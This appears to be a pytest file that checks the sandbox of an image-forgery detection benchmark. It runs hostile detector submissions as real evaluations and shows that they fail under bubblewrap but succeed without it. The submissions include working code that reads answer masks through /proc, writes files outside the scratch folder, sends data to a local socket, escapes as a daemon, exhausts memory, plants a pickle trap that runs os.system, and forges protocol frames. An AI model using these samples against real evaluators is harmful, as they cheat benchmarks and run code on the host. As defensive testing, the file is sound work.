"""Hostile submissions against the sandbox: each attack runs for real, inside a real evaluation, and fails as a
per-sample problem while the rest of the run completes. Where it means something, the same attack also runs
without the defence (the forced-unisolated mode, or in-process) and succeeds, so no test here passes vacuously.

Sample ``s001`` carries code 1 in its first pixel: the attack detectors attack there and predict normally on the
others (the mask-reading one attacks everywhere, so its F1 shows whether the read worked).
"""

from __future__ import annotations

import os
import pickle
import socket
import tempfile
import threading
import time
import uuid
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

from inpaintbench.harness import isolation
from inpaintbench.harness.data import open_eval_data
from inpaintbench.harness.loading import load_detector
from inpaintbench.harness.run import EvalOptions, run_evaluation
from tests.helpers.harness_rows import make_rows

N = 4
ATTACK_ID = "s001"
BWRAP_OK, BWRAP_WHY = isolation.bwrap_status()
needs_bwrap = pytest.mark.skipif(not BWRAP_OK, reason=f"no OS sandbox here: {BWRAP_WHY}")

NORMAL = '''
import os, sys, time
import numpy as np

def normal(image):
    return {"score": 0.5, "map": (image[:, :, 0] < 64).astype(np.float32)}
'''


@pytest.fixture(scope="module")
def shard(tmp_path_factory):
    """Four samples; the first pixel of s001 is 1 (attack here), the others' 200."""
    import datasets

    from inpaintbench.schema import FEATURES

    rows = make_rows(N)
    for i, sample_id in enumerate(rows["sample_id"]):
        arr = np.asarray(rows["image"][i]).copy()
        arr[0, 0, 0] = 1 if sample_id == ATTACK_ID else 200
        rows["image"][i] = Image.fromarray(arr)
    path = tmp_path_factory.mktemp("data") / "hostile.parquet"
    datasets.Dataset.from_dict(rows, features=FEATURES).to_parquet(str(path))
    return str(path)


def _evaluate(tmp_path, shard, source: str, cls: str, monkeypatch, isolated: bool = True, memory: str = "auto",
              timeout_s: float = 5.0, memory_mb: int = 2048, params: dict | None = None) -> dict:
    """A real run of the detector in ``source`` (policy penalize); ``isolated=False`` forces the plain subprocess."""
    code = tmp_path / "det" / f"{cls.lower()}.py"
    code.parent.mkdir(exist_ok=True)
    code.write_text(source)
    monkeypatch.setenv(isolation.ISOLATION_ENV, "bwrap" if isolated else "none")
    monkeypatch.setenv(isolation.MEMORY_ENV, memory)
    opts = EvalOptions(data=shard, detector=f"{code}:{cls}", params=params or {}, timeout_s=timeout_s,
                       memory_mb=memory_mb, bootstrap=0, progress=False, policy="penalize")
    return run_evaluation(opts, open_eval_data(shard), use_evaluate=False)


def _fill(template: str, **values) -> str:
    """A detector's source from a template: ``{name}`` / ``{name!r}`` filled, ``{{``/``}}`` made single."""
    for name, value in values.items():
        template = template.replace("{" + name + "!r}", repr(value)).replace("{" + name + "}", str(value))
    return template.replace("{{", "{").replace("}}", "}")


def _failures(results) -> dict[str, tuple[str, str]]:
    return {f["sample_id"]: (f["kind"], f["detail"]) for f in results["failures"]["samples"]}


def _only_attack_failed(results) -> tuple[str, str]:
    failures = _failures(results)
    assert set(failures) == {ATTACK_ID}, failures  # the rest of the run completed and scored
    assert results["metrics"]["n_images"] == N
    return failures[ATTACK_ID]


def _processes_with(token: str) -> list[int]:
    out = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                cmdline = Path(f"/proc/{entry}/cmdline").read_bytes()
                state = Path(f"/proc/{entry}/stat").read_text().rpartition(")")[2].split()[0]
            except OSError:
                continue
            if token.encode() in cmdline and state != "Z":
                out.append(int(entry))
    return out


# ---- reading the answers -------------------------------------------------------------------------------------

READ_MASKS = '''
import glob, io, os
import numpy as np
from PIL import Image

PLANTED = {data!r}  # the data path, planted by the test: this detector knows exactly where the answers are


def candidates():
    """Every place a detector told nothing could learn the data path from, and the planted one."""
    found = [("planted", PLANTED)]
    for pattern, key in (("/proc/%d/cmdline" % os.getppid(), "cmdline"), ("/proc/*/cmdline", "cmdline"),
                         ("/proc/%d/environ" % os.getppid(), "environ"), ("/proc/*/environ", "environ")):
        for source in glob.glob(pattern):
            try:
                parts = open(source, "rb").read().split(b"\\0")
            except OSError:
                continue
            for part in parts:
                value = part.split(b"=", 1)[-1].decode(errors="replace")
                if value.endswith(".parquet"):
                    found.append((source, value))
    found += [("os.environ", v) for v in os.environ.values() if v.endswith(".parquet")]
    return found


class ReadMasks:
    def predict(self, image):
        errors = []
        for source, path in candidates():
            try:
                raw = open(path, "rb").read()
            except OSError as exc:
                errors.append(f"{{source}} -> {{path}}: {{type(exc).__name__}}")
                continue
            import pyarrow.parquet as pq
            table = pq.read_table(io.BytesIO(raw), columns=["image", "mask", "label"])
            for img, mask, label in zip(*(table.column(c).to_pylist() for c in ("image", "mask", "label"))):
                if np.array_equal(np.asarray(Image.open(io.BytesIO(img["bytes"])).convert("RGB")), image):
                    gt = np.asarray(Image.open(io.BytesIO(mask["bytes"]))) > 127
                    return {{"score": float(label), "map": gt.astype(np.float32)}}
        raise RuntimeError("could not read the masks: " + "; ".join(errors))
'''


@needs_bwrap
def test_reading_the_masks_fails_in_the_sandbox_and_works_without_it(tmp_path, shard, monkeypatch):
    # The scorer's environment names the data too (as a CI job's might): the child must not see it.
    monkeypatch.setenv("IB_HOSTILE_DATA", shard)
    source = _fill(READ_MASKS, data=shard)

    results = _evaluate(tmp_path, shard, source, "ReadMasks", monkeypatch)
    failures = _failures(results)
    assert set(failures) == {f"s{i:03d}" for i in range(N)}  # every sample tried, every sample failed
    for kind, detail in failures.values():
        assert kind == "error"
        assert f"planted -> {shard}: FileNotFoundError" in detail
        # Nothing in any /proc/*/cmdline, /proc/*/environ or its own environment named the data.
        assert "/proc/" not in detail and "os.environ" not in detail, detail
    assert (results["metrics"]["pixel_f1_mean"] or 0.0) < 0.5  # None: no sample produced a map
    assert results["detector"]["isolation"]["isolated"] is True
    assert results["detector"]["isolation"]["method"] == "bwrap"

    # Without the sandbox the same code reads the answers and scores a perfect F1: the attack is real.
    open_run = _evaluate(tmp_path, shard, source, "ReadMasks", monkeypatch, isolated=False)
    assert open_run["failures"]["count"] == 0
    assert open_run["metrics"]["pixel_f1_mean"] == pytest.approx(1.0)
    assert open_run["detector"]["isolation"]["isolated"] is False


# ---- writing outside the scratch folder ----------------------------------------------------------------------

WRITE_OUTSIDE = NORMAL + '''
import tempfile

TARGETS = {targets!r}


class WriteOutside:
    def predict(self, image):
        if image[0, 0, 0] != 1:
            return normal(image)
        report = []
        for path in TARGETS:
            try:
                with open(path, "a") as fh:
                    fh.write("# pwned\\n")
                report.append(f"{{path}}: written")
            except OSError as exc:
                report.append(f"{{path}}: {{type(exc).__name__}}")
        scratch = os.path.join(tempfile.gettempdir(), "{marker}")
        state = "left over" if os.path.exists(scratch) else "fresh"  # from an earlier run's scratch folder
        with open(scratch, "w") as fh:  # the scratch folder is writable
            fh.write("fine")
        report.append(f"scratch: {{state}}, written to {{scratch}}")
        raise RuntimeError("; ".join(report))
'''


@needs_bwrap
def test_writing_outside_the_scratch_folder_fails(tmp_path, shard, monkeypatch):
    victim = tmp_path / "victim"
    victim.mkdir()
    code = tmp_path / "det" / "writeoutside.py"
    targets = [str(victim / "pwned.txt"), str(Path(shard).parent / "pwned.txt"), str(code), "/pwned.txt",
               os.path.join(os.getcwd(), "pwned.txt")]
    marker = f"ib-marker-{uuid.uuid4().hex}"
    # Inside the jail the root and the working folder are read-only; outside they are the host's: only the
    # temporary targets go into the unsandboxed run below.
    results = _evaluate(tmp_path, shard, _fill(WRITE_OUTSIDE, targets=targets, marker=marker), "WriteOutside",
                        monkeypatch)
    kind, detail = _only_attack_failed(results)
    assert kind == "error"
    # A working folder under the host's /tmp (a CI checkout there) lies inside the jail's scratch tmpfs: writing
    # there writes the scratch, never the host (checked below), so only the other targets must fail.
    in_scratch = {targets[4]} if os.getcwd().startswith("/tmp/") else set()
    outcome = dict(entry.rsplit(": ", 1) for entry in detail.split(": ", 1)[1].split("; "))  # path -> result
    for target in targets:
        assert target in outcome, detail
        if target not in in_scratch:
            assert outcome[target] != "written", detail
    assert "scratch: fresh, written to /tmp/" in detail
    assert not (victim / "pwned.txt").exists() and not (Path(shard).parent / "pwned.txt").exists()
    assert "# pwned" not in code.read_text().splitlines()
    assert not Path("/pwned.txt").exists() and not Path("pwned.txt").exists()

    # Unsandboxed, the same writes land on the host.
    temporary = targets[:3]
    open_run = _evaluate(tmp_path, shard, _fill(WRITE_OUTSIDE, targets=temporary, marker=marker), "WriteOutside",
                         monkeypatch, isolated=False)
    assert (victim / "pwned.txt").exists() and (Path(shard).parent / "pwned.txt").exists()
    # Its scratch folder (a host folder in this mode) was fresh too, and is gone after the run.
    assert "scratch: fresh" in _only_attack_failed(open_run)[1]
    assert not list(Path(tempfile.gettempdir()).glob(f"ib-scratch-*/{marker}"))
    (Path(shard).parent / "pwned.txt").unlink()  # the shard's folder is shared by the module's tests


# ---- the network ---------------------------------------------------------------------------------------------

CONNECT = NORMAL + '''
import socket


class Connect:
    def predict(self, image):
        if image[0, 0, 0] != 1:
            return normal(image)
        with socket.create_connection(("127.0.0.1", {port}), timeout=2) as conn:
            conn.sendall(b"stolen answers")
        return normal(image)
'''


@needs_bwrap
def test_connecting_to_localhost_fails(tmp_path, shard, monkeypatch):
    received: list[bytes] = []
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    stop = threading.Event()

    def serve():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            with conn:
                received.append(conn.recv(100))

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        source = _fill(CONNECT, port=server.getsockname()[1])
        results = _evaluate(tmp_path, shard, source, "Connect", monkeypatch)
        kind, detail = _only_attack_failed(results)
        assert kind == "error" and "ConnectionRefusedError" in detail, detail
        assert received == []
        assert results["detector"]["isolation"]["network"] is False

        # Unsandboxed, the listener gets the data.
        open_run = _evaluate(tmp_path, shard, source, "Connect", monkeypatch, isolated=False)
        assert open_run["failures"]["count"] == 0
        deadline = time.monotonic() + 5
        while not received and time.monotonic() < deadline:
            time.sleep(0.05)
        assert received == [b"stolen answers"]
    finally:
        stop.set()
        thread.join()
        server.close()


# ---- processes the detector starts ---------------------------------------------------------------------------

# The grandchild double-forks and calls setsid: a daemon, re-parented away from the detector and out of its
# process group and session, the usual way to outlive whoever started it.
HANG = NORMAL + '''
import subprocess

DAEMON = "import os, time; os.fork() and os._exit(0); os.setsid(); time.sleep(120)"


class Hang:
    def predict(self, image):
        if image[0, 0, 0] != 1:
            return normal(image)
        subprocess.run([sys.executable, "-S", "-c", DAEMON, "{token}"], check=True)
        time.sleep(120)
'''


@needs_bwrap
@pytest.mark.parametrize("memory", ["auto", "watchdog"])  # with and without the cgroup: the namespace alone
def test_a_hanging_grandchild_times_out_and_is_gone_afterwards(tmp_path, shard, monkeypatch, memory):
    token = f"ib-hang-{uuid.uuid4().hex}"
    started = time.monotonic()
    results = _evaluate(tmp_path, shard, _fill(HANG, token=token), "Hang", monkeypatch, memory=memory, timeout_s=2)
    kind, detail = _only_attack_failed(results)
    assert kind == "timeout" and "2 s" in detail
    assert time.monotonic() - started < 60
    assert _processes_with(token) == []


def test_without_the_sandbox_a_daemon_grandchild_outlives_the_run(tmp_path, shard, monkeypatch):
    """What the namespace buys: the plain subprocess (no cgroup) kills its session, but a daemon escapes it."""
    token = f"ib-hang-{uuid.uuid4().hex}"
    try:
        results = _evaluate(tmp_path, shard, _fill(HANG, token=token), "Hang", monkeypatch, isolated=False,
                            memory="watchdog", timeout_s=2)
        assert _only_attack_failed(results)[0] == "timeout"
        assert _processes_with(token) != []
    finally:
        for pid in _processes_with(token):
            os.kill(pid, 9)


MEMORY = NORMAL + '''
import subprocess

GRAB = "import time; x = b'\\\\1' * ({mib} << 20); time.sleep(2)"  # touched bytes, held for 2 s


class Memory:
    def __init__(self, children=3):
        self.children = children

    def predict(self, image):
        if image[0, 0, 0] != 1:
            return normal(image)
        procs = [subprocess.Popen([sys.executable, "-S", "-c", GRAB]) for _ in range(self.children)]
        codes = [p.wait() for p in procs]
        if any(codes):
            raise RuntimeError(f"a grandchild failed: exit codes {{codes}}")
        return normal(image)
'''


@pytest.mark.slow  # two runs whose grandchildren allocate 0.4-1.2 GiB (~5 s)
@needs_bwrap
@pytest.mark.parametrize("memory", ["auto", "watchdog"])
def test_grandchildren_over_the_memory_limit_together_are_killed(tmp_path, shard, monkeypatch, memory):
    """1 GiB for the whole tree; each grandchild holds 400 MiB, under the limit alone (RLIMIT_AS included)."""
    source = _fill(MEMORY, mib=400)
    # One grandchild fits: each allocation on its own is allowed, so the failure below is the sum's.
    one = _evaluate(tmp_path, shard, source, "Memory", monkeypatch, memory=memory, memory_mb=1024,
                    timeout_s=30, params={"children": 1})
    assert one["failures"]["count"] == 0, _failures(one)

    started = time.monotonic()
    results = _evaluate(tmp_path, shard, source, "Memory", monkeypatch, memory=memory, memory_mb=1024,
                        timeout_s=30, params={"children": 3})
    kind, detail = _only_attack_failed(results)
    assert kind == "error" and detail.startswith("MemoryError: the detector's processes together"), detail
    assert "memory limit (1024 MiB)" in detail
    assert ("(memory cgroup)" if memory == "auto" else "(watchdog)") in detail, detail
    assert time.monotonic() - started < 30  # caught as memory, not as a timeout
    assert results["detector"]["isolation"]["memory_limit"] == ("cgroup" if memory == "auto" else "watchdog")


# ---- what comes back -----------------------------------------------------------------------------------------

RETURN_VALUES = NORMAL + '''
MARKER = {marker!r}  # a file in the test's tmp folder: the parent can write it, the jailed child cannot see it
SLEEP = {sleep}


class Trap:
    """Unpickling this runs os.system in whoever unpickles it (the old pickle channel: the scorer)."""

    def __reduce__(self):
        return (os.system, (f"touch {{MARKER}}; sleep {{SLEEP}}",))


class SlowFloat(float):
    def __float__(self):  # runs where the score is converted: must be the child, under its timeout
        time.sleep(60)
        return 0.5


class Result:  # a custom return class instead of a dict
    def __init__(self, score, map):
        self.score, self.map = score, map


class Returns:
    def predict(self, image):
        return Trap() if image[0, 0, 0] == 1 else normal(image)


class ReturnsTrapScore:
    def predict(self, image):
        return {{"score": Trap(), "map": None}} if image[0, 0, 0] == 1 else normal(image)


class ReturnsCustom:
    def predict(self, image):
        if image[0, 0, 0] == 1:
            return Result(0.5, np.zeros(image.shape[:2], np.float32))
        return normal(image)


class ReturnsSlowFloat:
    def predict(self, image):
        return {{"score": SlowFloat(0.5), "map": None}} if image[0, 0, 0] == 1 else normal(image)
'''


@needs_bwrap
@pytest.mark.parametrize("cls, message", [
    ("Returns", "predict must return a dict with 'score' and 'map', got Trap"),
    ("ReturnsTrapScore", "score must be a number, got Trap"),
])
def test_a_return_value_that_would_run_code_when_unpickled_never_runs_in_the_parent(tmp_path, shard, monkeypatch,
                                                                                   cls, message):
    marker = tmp_path / "unpickled-in-the-parent"
    # The attack is real: unpickled here, as the old sandbox did in the scorer, the value runs os.system.
    code = tmp_path / "inprocess.py"
    code.write_text(_fill(RETURN_VALUES, marker=str(marker), sleep=0))
    trap = load_detector(f"{code}:{cls}").predict(np.full((4, 4, 3), 1, np.uint8))
    pickle.loads(pickle.dumps(trap))
    assert marker.exists()
    marker.unlink()

    started = time.monotonic()
    results = _evaluate(tmp_path, shard, _fill(RETURN_VALUES, marker=str(marker), sleep=20), cls, monkeypatch)
    elapsed = time.monotonic() - started
    kind, detail = _only_attack_failed(results)
    assert kind == "wrong_dtype" and detail.startswith(message), detail
    assert not marker.exists()
    assert elapsed < 20  # nothing slept: os.system never ran, in the parent or anywhere


@needs_bwrap
def test_a_custom_return_class_is_refused_with_a_clear_message(tmp_path, shard, monkeypatch):
    source = _fill(RETURN_VALUES, marker=str(tmp_path / "unused"), sleep=0)
    results = _evaluate(tmp_path, shard, source, "ReturnsCustom", monkeypatch)
    kind, detail = _only_attack_failed(results)
    assert kind == "wrong_dtype" and detail == "predict must return a dict with 'score' and 'map', got Result"


@needs_bwrap
def test_code_in_a_returned_number_runs_in_the_child_under_its_timeout(tmp_path, shard, monkeypatch):
    source = _fill(RETURN_VALUES, marker=str(tmp_path / "unused"), sleep=0)
    started = time.monotonic()
    results = _evaluate(tmp_path, shard, source, "ReturnsSlowFloat", monkeypatch, timeout_s=2)
    kind, detail = _only_attack_failed(results)
    assert kind == "timeout"
    assert time.monotonic() - started < 30  # the parent never called the 60 s __float__


# ---- the wire itself ---------------------------------------------------------------------------------------

FORGED = NORMAL + '''
import json, struct

class Forge:
    """Writes its own frames on the channel (its number is in the child's argv) instead of returning."""

    def __init__(self, how):
        self.how = how

    def predict(self, image):
        if image[0, 0, 0] != 1:
            return normal(image)
        fd = int(sys.argv[1])
        if self.how == "huge":
            head = json.dumps({{"status": "ok", "score": 0.5,
                                "map": {{"dtype": "float64", "shape": [100000, 100000]}}}}).encode()
            os.write(fd, struct.pack(">4sIQ", b"IBW1", len(head), 8 * 100000 * 100000) + head)
        elif self.how == "pickle":
            head = json.dumps({{"status": "ok", "score": 0.5, "map": {{"dtype": "object", "shape": [1]}}}}).encode()
            os.write(fd, struct.pack(">4sIQ", b"IBW1", len(head), 8) + head + b"\\x80\\x04N.\\0\\0\\0\\0")
        elif self.how == "deep":  # valid JSON nested past the parser's recursion limit, under the size limit
            head = b"[" * 30000 + b"]" * 30000
            os.write(fd, struct.pack(">4sIQ", b"IBW1", len(head), 0) + head)
        else:  # half a frame, then silence
            os.write(fd, struct.pack(">4sIQ", b"IBW1", 100, 0) + b'{{"status": "o')
        time.sleep(60)
'''


@needs_bwrap
@pytest.mark.parametrize("how, kind, message", [
    ("huge", "error", "exceeds 64 times the image's pixels"),
    ("pickle", "error", "map dtype must be one of uint8, bool, float16, float32, float64"),
    ("deep", "error", "header is not JSON: RecursionError"),
    ("half", "timeout", "no answer within 2 s"),
])
def test_forged_frames_are_refused_before_allocating(tmp_path, shard, monkeypatch, how, kind, message):
    started = time.monotonic()
    results = _evaluate(tmp_path, shard, _fill(FORGED), "Forge", monkeypatch, timeout_s=2, params={"how": how})
    got_kind, detail = _only_attack_failed(results)
    assert got_kind == kind and message in detail, detail
    assert time.monotonic() - started < 30


# ---- what the results say ------------------------------------------------------------------------------------

@needs_bwrap
def test_registered_detector_runs_isolated_and_says_so(tmp_path, shard, monkeypatch):
    monkeypatch.setenv(isolation.ISOLATION_ENV, "auto")
    opts = EvalOptions(data=shard, detector="ela", bootstrap=0, progress=False, policy="penalize")
    results = run_evaluation(opts, open_eval_data(shard), use_evaluate=False)
    assert results["failures"]["count"] == 0
    info = results["detector"]["isolation"]
    assert info["isolated"] is True and info["method"] == "bwrap" and info["network"] is False
    assert info["memory_limit"] in ("cgroup", "watchdog")


def test_without_bwrap_the_run_still_works_unisolated_with_a_warning(tmp_path, shard, monkeypatch):
    # bwrap really is absent from this PATH; the plain-subprocess fallback takes over and says so.
    monkeypatch.setenv("PATH", str(tmp_path))
    monkeypatch.setenv(isolation.ISOLATION_ENV, "auto")
    isolation.bwrap_status.cache_clear()
    try:
        opts = EvalOptions(data=shard, detector="ela", bootstrap=0, progress=False, policy="penalize")
        with pytest.warns(RuntimeWarning, match="WITHOUT isolation"):
            results = run_evaluation(opts, open_eval_data(shard), use_evaluate=False)
    finally:
        isolation.bwrap_status.cache_clear()
    assert results["failures"]["count"] == 0
    info = results["detector"]["isolation"]
    assert info["isolated"] is False and info["method"] == "none" and info["network"] is True
    assert "bubblewrap" in info["reason"]
